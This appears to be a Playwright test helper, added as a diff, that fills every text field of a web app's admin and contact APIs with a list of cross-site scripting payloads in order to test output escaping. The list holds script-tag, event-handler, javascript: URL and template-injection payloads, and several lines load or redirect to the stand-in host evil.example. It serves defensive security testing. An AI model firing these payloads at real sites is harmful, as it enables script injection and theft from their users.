@@ -1,0 +1,192 @@
+import { type APIRequestContext, expect } from '@playwright/test';
+
+/**
+ * What somebody types who wants a script to run: each way into HTML, attributes, addresses, styles, scripts and
+ * templates. Whatever runs says so in `__ran`, opens a dialog, or asks another host.
+ */
+export const scripts: readonly string[] = [
+  '<script>window.__ran=1</script>',
+  '<img src=x onerror=alert(window.__ran=1)>',
+  '"><svg onload=alert(window.__ran=1)>',
+  "'><svg/onload=alert(window.__ran=1)>",
+  '</script><script>window.__ran=1</script>',
+  '</title><script src=//evil.example/__ran.js></script>',
+  '</textarea><img src=//evil.example/__ran onerror=alert(1)>',
+  '</style><style>@import "//evil.example/__ran.css";</style>',
+  '--><script>window.__ran=1</script><!--',
+  ']]><script>window.__ran=1</script>',
+  'javascript:alert(window.__ran=1)',
+  'JaVaScRiPt:window.__ran=1',
+  'java&#x0A;script:alert(window.__ran=1)',
+  'data:text/html,<script>window.__ran=1</script>',
+  '<a href="javascript:window.__ran=1" autofocus onfocus=this.click()>x</a>',
+  '<iframe srcdoc="<script>parent.__ran=1</script>"></iframe>',
+  '<iframe src="javascript:parent.__ran=1"></iframe>',
+  '<details open ontoggle=alert(window.__ran=1)>x</details>',
+  '<video><source onerror=alert(window.__ran=1)></video>',
+  '<math><mtext></p><img src=x onerror=alert(window.__ran=1)></mtext></math>',
+  '<svg><animate onbegin=alert(window.__ran=1) attributeName=x dur=1s>',
+  '<form action=//evil.example/__ran><input autofocus onfocus=this.form.submit()></form>',
+  '<meta http-equiv=refresh content="0;url=//evil.example/__ran">',
+  '<base href=//evil.example/__ran/>',
+  '<link rel=stylesheet href=//evil.example/__ran.css>',
+  '<object data=//evil.example/__ran></object>',
+  '" onmouseover=alert(window.__ran=1) autofocus onfocus=alert(1) x="',
+  "' style='background:url(//evil.example/__ran)' x='",
+  '{{constructor.constructor("window.__ran=1")()}}',
+  '${window.__ran=1}<%=window.__ran=1%>#{window.__ran=1}',
+  '&lt;img src=x onerror=alert(window.__ran=1)&gt;',
+  '\\u003cimg src=x onerror=alert(window.__ran=1)\\u003e',
+];
+const at = (index: number): string => scripts[index % scripts.length] ?? '';
+/** An address is held to a form that leaves little room. */
+const email = (index: number) => `'onload'+__ran-${index}@example.com`;
+
+interface FieldSchema {
+  type?: string;
+  enum?: unknown[];
+  format?: string;
+  pattern?: string;
+  maxLength?: number;
+  anyOf?: FieldSchema[];
+}
+interface Body {
+  schema: { properties: Record<string, FieldSchema> };
+  example: Record<string, unknown>;
+}
+
+/** The call's example with scripts in each field that takes a text, all of them where there is room. */
+function filled({ schema, example }: Body, row: number): Record<string, unknown> {
+  const texts = Object.entries(schema.properties).flatMap(([name, field], column) => {
+    const whole = field.anyOf?.find(({ type }) => type === 'string') ?? field;
+    const { maxLength = 0, enum: choices } = whole;
+    const format = whole.format ?? field.format;
+    const pattern = whole.pattern ?? field.pattern ?? '';
+    if (whole.type !== 'string' || choices) return [];
+    if (format === 'email') return [[name, email(row)]];
+    if (pattern.includes('[Hh][Tt]')) return [[name, `https://evil.example/${row}`]];
+    if (format !== undefined || !['', '\\S'].includes(pattern)) return [];
+    const all = scripts.join(' ');
+    return [[name, maxLength >= all.length ? `${at(row)} ${all}` : at(row + column)]];
+  });
+  return { ...example, ...Object.fromEntries(texts) };
+}
+
+const dot = Buffer.from(
+  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==',
+  'base64',
+);
+
+/** One record of each kind: what a screen or dialog may be about. */
+export interface MadeRecords {
+  property: number;
+  project: number;
+  projectType: number;
+  task: number;
+  product: number;
+  category: number;
+  taskProduct: number;
+  photo: number;
+  subcontractor: number;
+}
+
+/** One page shows no more than eight of what it may have any number of: all the same each holds every script. */
+const together = (all: number[], row: number) => all[row < 8 ? 0 : row];
+
+/** Puts each script into each text field of each kind of record, a record for every script. */
+export async function typeScripts(request: APIRequestContext): Promise<MadeRecords> {
+  const { paths } = (await (await request.get('/api/openapi.json')).json()) as {
+    paths: Record<
+      string,
+      Record<string, { requestBody: { content: { 'application/json': Body } } } | undefined>
+    >;
+  };
+  const bodyOf = (path: string, method = 'post') => {
+    const body = paths[path]?.[method]?.requestBody.content['application/json'];
+    if (!body) throw new Error(`Not in the document: ${method} ${path}`);
+    return body;
+  };
+  const rows = scripts.map((_, row) => row);
+  /** The new records' ids, in the order of their scripts. */
+  const make = async (
+    path: string,
+    others: (row: number) => Record<string, unknown> = () => ({}),
+  ): Promise<number[]> =>
+    Promise.all(
+      rows.map(async (row) => {
+        const answer = await request.post(path, {
+          data: { ...filled(bodyOf(path), row), ...others(row) },
+          // Of leads five are taken from one address.
+          headers: { 'x-forwarded-for': `198.18.0.${row + 1}` },
+        });
+        expect(answer.status(), `${path} ${await answer.text()}`).toBe(201);
+        return ((await answer.json()) as { id: number }).id;
+      }),
+    );
+
+  const properties = await make('/api/admin/properties');
+  const types = await make('/api/admin/project-types');
+  const projects = await make('/api/admin/projects', (row) => ({
+    propertyId: together(properties, row),
+    projectTypeId: types[row],
+  }));
+  const tasks = await make('/api/admin/project-tasks', (row) => ({ projectId: together(projects, row) }));
+  const [task = 0] = tasks;
+  const categories = await make('/api/admin/product-categories');
+  const products = await make('/api/admin/products');
+  const [taskProduct = 0] = await make('/api/admin/task-products', (row) => ({
+    taskId: together(tasks, row),
+    productId: products[row],
+  }));
+  const [subcontractor = 0] = await make('/api/admin/subcontractors');
+  await make('/api/contact');
+
+  const [category = 0] = categories;
+  await post(request, '/api/admin/task-product-categories', { taskId: task, productCategoryId: category });
+  await post(request, `/api/admin/product-categories/${category}/project-types`, {
+    projectTypeId: types[0],
+  });
+  const settings = await request.patch('/api/admin/settings', {
+    data: filled(bodyOf('/api/admin/settings', 'patch'), 1),
+  });
+  expect(settings.status(), await settings.text()).toBe(200);
+
+  const photos = await Promise.all(
+    rows.map(async (row) => {
+      const answer = await request.post('/api/admin/task-photos/upload', {
+        multipart: {
+          taskId: together(tasks, row) ?? 0,
+          caption: at(row + 1),
+          photo: { name: `${at(row)}.html`, mimeType: 'text/html', buffer: dot },
+        },
+      });
+      expect(answer.status(), await answer.text()).toBe(201);
+      return ((await answer.json()) as { id: number }).id;
+    }),
+  );
+
+  // Who may come in is decided in the panel alone. A password takes a while to hash, so three scripts go with each.
+  for (const row of rows.filter((index) => index % 3 === 0)) {
+    const person = { username: at(row), firstName: at(row + 1), lastName: at(row + 2), email: email(row) };
+    await post(request, '/trpc/admins.create', person);
+  }
+  await Promise.all(
+    scripts.map(async (name) => post(request, '/trpc/apiKeys.create', { name, role: 'viewer' })),
+  );
+  return {
+    property: properties[0] ?? 0,
+    project: projects[0] ?? 0,
+    projectType: types[0] ?? 0,
+    task,
+    product: products[0] ?? 0,
+    category,
+    taskProduct,
+    photo: photos[0] ?? 0,
+    subcontractor,
+  };
+}
+
+async function post(request: APIRequestContext, path: string, data: Record<string, unknown>): Promise<void> {
+  const answer = await request.post(path, { data });
+  expect(answer.ok(), `${path} ${await answer.text()}`).toBe(true);
+}
